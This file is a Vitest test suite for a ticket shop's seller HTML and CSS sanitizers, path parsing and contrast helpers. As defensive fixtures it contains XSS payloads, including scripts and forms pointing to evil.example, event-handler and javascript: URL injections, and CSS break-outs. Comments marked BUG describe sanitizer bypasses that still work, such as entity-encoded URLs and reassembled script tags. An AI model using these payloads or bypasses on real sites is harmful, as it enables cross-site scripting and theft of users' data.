// @vitest-environment jsdom
import { describe, it, expect } from 'vitest';
import { sanitizeSellerCss, sanitizeSellerHtml } from '../../lib/shop/custom-content.ts';
import { shopSlugOfPath } from '../../lib/shop/request-path.ts';
import { contrastRatio, readableTextOn, relativeLuminance, usableAccent } from '../../lib/theme/contrast.ts';

const BLOCKED = ['script', 'iframe', 'object', 'embed', 'frame', 'frameset', 'base', 'meta', 'link', 'style', 'template', 'form'];
const SCRIPT_URL = /^(javascript|vbscript|data):/i;

/** Markup as a browser serializes it, so `<img />` and `<img>` compare equal. */
function asParsed(html: string): string {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template.innerHTML;
}

/**
 * What a browser makes of the sanitized markup: every element that could run code or leave the
 * page, every event-handler attribute and every script-bearing URL, as the HTML parser sees them
 * (entities decoded, URL whitespace stripped).
 */
function dangersIn(html: string): string[] {
  const doc = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
  const found: string[] = [];
  for (const element of doc.body.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (BLOCKED.includes(tag)) found.push(`<${tag}>`);
    for (const attribute of element.attributes) {
      if (attribute.name.toLowerCase().startsWith('on')) found.push(`${tag}[${attribute.name}]`);
      // Browsers drop leading control characters and spaces, and tabs and newlines anywhere.
      const url = attribute.value.replace(/[\t\n\r]/g, '').replace(/^[\u0000-\u0020]+/, '');
      if (SCRIPT_URL.test(url)) found.push(`${tag}[${attribute.name}=${attribute.value}]`);
    }
  }
  return found;
}

describe('sanitizeSellerHtml', () => {
  it.each([
    ['a script block', '<p>Hi</p><script>alert(1)</script>'],
    ['a script with attributes over lines', '<script type="text/javascript"\n src="https://evil.example/x.js">\n</script><p>Hi</p>'],
    ['an unclosed script tag', '<p>Hi</p><script src="https://evil.example/x.js">'],
    ['an upper-case script', '<SCRIPT>alert(1)</SCRIPT><p>Hi</p>'],
    ['an image with onerror', '<img src="x" onerror="alert(1)"><p>Hi</p>'],
    ['an unquoted onerror', '<img src=x onerror=alert(1)><p>Hi</p>'],
    ['a single-quoted onclick', "<p onclick='alert(1)'>Hi</p>"],
    ['a javascript: link', '<a href="javascript:alert(1)">Hi</a>'],
    ['a JavaScript: link with spaces', '<a href=" JavaScript:alert(1)">Hi</a>'],
    ['an unquoted javascript: link', '<a href=javascript:alert(1)>Hi</a>'],
    ['a vbscript: link', "<a href='vbscript:msgbox(1)'>Hi</a>"],
    ['a data: URL', '<a href="data:text/html,<script>alert(1)</script>">Hi</a>'],
    ['an iframe', '<iframe src="https://evil.example"></iframe><p>Hi</p>'],
    ['an object and an embed', '<object data="x.swf"></object><embed src="x.swf"><p>Hi</p>'],
    ['a form', '<form action="https://evil.example"><input name="password"><button>Go</button></form><p>Hi</p>'],
    ['a style element', '<style>body { display: none }</style><p>Hi</p>'],
    ['a base element', '<base href="https://evil.example/"><p>Hi</p>'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Hi</p>'],
    ['a stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css"><p>Hi</p>'],
    ['a template', '<template><img src=x onerror=alert(1)></template><p>Hi</p>'],
  ])('removes %s', (_case, html) => {
    const clean = sanitizeSellerHtml(html);
    expect(dangersIn(html).length, 'the input itself is dangerous').toBeGreaterThan(0);
    expect(dangersIn(clean)).toEqual([]);
    expect(clean).not.toMatch(/alert|evil\.example|msgbox/i);
  });

  it('keeps the text around removed elements', () => {
    expect(sanitizeSellerHtml('<p>Before</p><script>alert(1)</script><p>After</p>')).toBe('<p>Before</p><p>After</p>');
    expect(asParsed(sanitizeSellerHtml('<img src="/a.png" onerror="alert(1)" alt="A">'))).toBe('<img src="/a.png" alt="A">');
  });

  it.each([
    '<div class="x"><strong>a</strong> <a href="https://x">y</a></div>',
    '<div class="riverside-banner"><strong>Members save 10%</strong> on every concert. <a href="https://riverside-live.example/membership">Join the club</a></div>',
    '<p>Questions? <a href="mailto:info@example.com">Write to us</a> or call <a href="tel:+442071234567">020 7123 4567</a>.</p>',
    '<ul><li><em>One</em></li><li>Two &amp; three</li></ul><img src="/demo/a.png" alt="A stage">',
    '<p>Our online shop is open; the box office is not.</p>',
    '<p>Display data: the format of a timetable.</p>',
  ])('keeps benign markup intact: %s', (html) => {
    expect(asParsed(sanitizeSellerHtml(html))).toBe(asParsed(html));
  });

  // BUG: the regex only removes handlers preceded by whitespace; a browser also starts a new
  // attribute after "/" (`<svg/onload=…>`, `<img src="x"/onerror=…>`), so these keep their handler.
  it.each([
    ['a handler after a slash', '<svg/onload=alert(1)>'],
    ['a handler after a quoted value and a slash', '<img src="x"/onerror="alert(1)">'],
  ])('removes %s', (_case, html) => {
    expect(dangersIn(sanitizeSellerHtml(html))).toEqual([]);
  });

  // BUG: javascript: URLs are matched literally, but the HTML parser decodes character references
  // and the URL parser drops tabs and newlines, so these links still run script when clicked.
  it.each([
    ['an entity-encoded javascript: URL', '<a href="jav&#x61;script:alert(1)">Hi</a>'],
    ['a javascript: URL with a tab', '<a href="java\tscript:alert(1)">Hi</a>'],
  ])('removes %s', (_case, html) => {
    expect(dangersIn(sanitizeSellerHtml(html))).toEqual([]);
  });

  // BUG: the blocked elements are removed one after the other in a single pass, so removing a
  // later one (iframe) can join the pieces of an earlier one (script) back together.
  it('removes a script reassembled by removing an iframe inside its tag', () => {
    const html = '<scr<iframe></iframe>ipt>alert(1)</scr<iframe></iframe>ipt>';
    expect(dangersIn(sanitizeSellerHtml(html))).toEqual([]);
  });
});

describe('sanitizeSellerCss', () => {
  it.each([
    ['a </style> break-out', '.a { color: red } </style><script>alert(1)</script>', /<\/\s*style/i],
    ['an upper-case </STYLE > break-out', '.a{} </STYLE ><img src=x onerror=alert(1)>', /<\/\s*style/i],
    ['@import', '@import url("https://evil.example/x.css"); .a { color: red }', /@import/i],
    ['@import without a semicolon at the end', '.a { color: red } @IMPORT "https://evil.example/x.css"', /@import/i],
    ['expression()', '.a { width: expression(alert(1)) }', /expression\s*\(/i],
    ['expression () with a space', '.a { width: EXPRESSION (alert(1)) }', /expression\s*\(/i],
    ['a javascript: URL', '.a { background: url(javascript:alert(1)) }', /javascript:/i],
    ['a quoted javascript: URL', ".a { background: url( 'javascript:alert(1)' ) }", /javascript:/i],
    ['an HTML comment', '<!-- .a { color: red } -->', /<!--|-->/],
  ])('removes %s', (_case, css, forbidden) => {
    expect(sanitizeSellerCss(css)).not.toMatch(forbidden);
  });

  it('cannot close its style element, so no markup after it becomes HTML', () => {
    const css = '.a { color: red } </style><img src=x onerror=alert(1)><style>';
    const doc = new DOMParser().parseFromString(`<head><style>${sanitizeSellerCss(css)}</style></head><body></body>`, 'text/html');
    expect(doc.querySelectorAll('img')).toHaveLength(0);
    expect(doc.querySelectorAll('style')).toHaveLength(1);
  });

  it.each([
    '.riverside-banner { background: #e8f2f8; border: 1px solid #b9d6e8; border-radius: 10px; padding: 12px 16px; } .riverside-banner a { font-weight: 600; }',
    '.hero { background: url("/demo/hero.jpg") center / cover no-repeat; }',
    '@media (max-width: 640px) { .a > .b:hover { color: rgb(0 0 0 / 50%); } }',
    '.x::after { content: "→"; }',
  ])('keeps normal rules: %s', (css) => {
    expect(sanitizeSellerCss(css)).toBe(css);
  });
});

describe('shopSlugOfPath', () => {
  it.each<[string | null | undefined, string | undefined]>([
    ['/riverside-live', 'riverside-live'],
    ['/riverside-live/', 'riverside-live'],
    ['/riverside-live/account/tickets', 'riverside-live'],
    ['/kulturhaus%20lindenau/checkout', 'kulturhaus lindenau'],
    ['/', undefined],
    ['', undefined],
    [null, undefined],
    [undefined, undefined],
    ['/api/shops/riverside-live/events', undefined],
    ['/sandbox/mail', undefined],
    ['/seller/sel_1/payment-plan/p/s', undefined],
    ['/transaction/t/s', undefined],
    ['/subscription/s/x', undefined],
    ['/ticket-transfer/t/s', undefined],
    ['/purchaseintent/p/s', undefined],
    ['/_next/static/chunk.js', undefined],
    ['/favicon.ico', undefined],
    ['/robots.txt', undefined],
    ['/%E0%A4%A', undefined],
  ])('%s -> %s', (path, expected) => {
    expect(shopSlugOfPath(path)).toBe(expected);
  });
});

describe('contrast', () => {
  it('measures black on white as 21:1 and a colour on itself as 1:1', () => {
    expect(contrastRatio('#000000', '#ffffff')).toBeCloseTo(21, 5);
    expect(contrastRatio('#ffffff', '#000')).toBeCloseTo(21, 5);
    expect(contrastRatio('#0f5c8c', '#0f5c8c')).toBeCloseTo(1, 5);
  });

  it('matches the WCAG example of #777 on white (4.48:1)', () => {
    expect(contrastRatio('#777777', '#ffffff')).toBeCloseTo(4.48, 2);
  });

  it.each(['red', '#12345', '#ggg', '', 'rgb(0,0,0)'])('knows no luminance for %j', (colour) => {
    expect(relativeLuminance(colour)).toBeUndefined();
    expect(contrastRatio(colour, '#ffffff')).toBeUndefined();
  });

  it.each([
    ['#000000', '#ffffff'],
    ['#0f5c8c', '#ffffff'],
    ['#8c1d40', '#ffffff'],
    ['#ffffff', '#111111'],
    ['#ffe066', '#111111'],
    ['#e8f2f8', '#111111'],
  ])('puts readable text on %s: %s', (background, text) => {
    expect(readableTextOn(background)).toBe(text);
    const other = text === '#ffffff' ? '#111111' : '#ffffff';
    expect(contrastRatio(background, text) ?? 0).toBeGreaterThanOrEqual(contrastRatio(background, other) ?? 0);
  });

  it.each<[string | undefined, string]>([
    ['#0f5c8c', '#0f5c8c'],
    ['#2d6a4f', '#2d6a4f'],
    ['#000', '#000'],
    ['#ffff00', '#1f5fbf'],
    ['#cccccc', '#1f5fbf'],
    ['#ffffff', '#1f5fbf'],
    ['blue', '#1f5fbf'],
    ['javascript:alert(1)', '#1f5fbf'],
    ['#0f5c8c; background: url(x)', '#1f5fbf'],
    [undefined, '#1f5fbf'],
  ])('uses %s as accent -> %s', (accent, expected) => {
    expect(usableAccent(accent)).toBe(expected);
  });

  it('keeps an accent only with at least 3:1 against white, and the fallback readable', () => {
    expect(contrastRatio(usableAccent('#ffff00'), '#ffffff') ?? 0).toBeGreaterThanOrEqual(3);
    expect(usableAccent('#ffff00', '#123456')).toBe('#123456');
  });
});
